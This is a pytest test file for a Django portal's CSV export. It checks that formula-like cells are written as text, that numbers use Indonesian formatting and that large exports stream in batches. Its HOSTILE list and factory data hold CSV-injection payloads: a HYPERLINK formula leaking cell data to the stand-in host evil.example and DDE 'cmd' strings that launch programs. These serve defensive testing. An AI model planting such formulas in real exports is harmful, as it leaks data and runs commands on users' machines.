"""CSV downloads open in Indonesian Excel as tables and never as formulas."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from awards.tests.factories import AwardFactory
from units.tests.factories import UnitFactory
from zi_portal import csv_export

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_excel_would_run_is_written_as_text(text):
    assert csv_export.cell(text) == "'" + text


def test_numbers_and_dates_are_written_as_indonesian_excel_reads_them():
    assert csv_export.cell(Decimal("71.305888")) == "71,31"
    assert csv_export.cell(-3) == "-3"  # a number, not text: nothing to neutralise
    assert csv_export.cell(datetime.date(2025, 12, 9)) == "2025-12-09"
    assert csv_export.cell(None) == ""
    assert csv_export.cell("Kantor Imigrasi; Kelas I") == "Kantor Imigrasi; Kelas I"


def _rows(response):
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())  # the byte-order mark Excel needs for UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.django_db
def test_an_anonymous_download_of_the_public_list_carries_no_formula(client):
    unit = UnitFactory(name='=HYPERLINK("http://evil.example/?"&A1,"Klik")')
    AwardFactory(unit=unit, year=2025, decree_number="@SUM(1+1)*cmd|' /C calc'!A0")

    rows = _rows(client.get(reverse("awards:public_csv")))

    assert len(rows) == 2
    assert rows[1][2] == "'" + unit.name
    assert rows[1][5].startswith("'@SUM")
    assert not any(value.startswith(csv_export.FORMULA_STARTS) for value in rows[1])


@pytest.mark.django_db
def test_a_large_list_streams_in_batches_with_every_row(client):
    units = UnitFactory.create_batch(csv_export.BATCH_ROWS + 3)
    for unit in units:
        AwardFactory(unit=unit, year=2025)
    response = client.get(reverse("awards:public_csv"))
    chunks = list(response.streaming_content)
    assert len(chunks) == 2
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == len(units) + 1
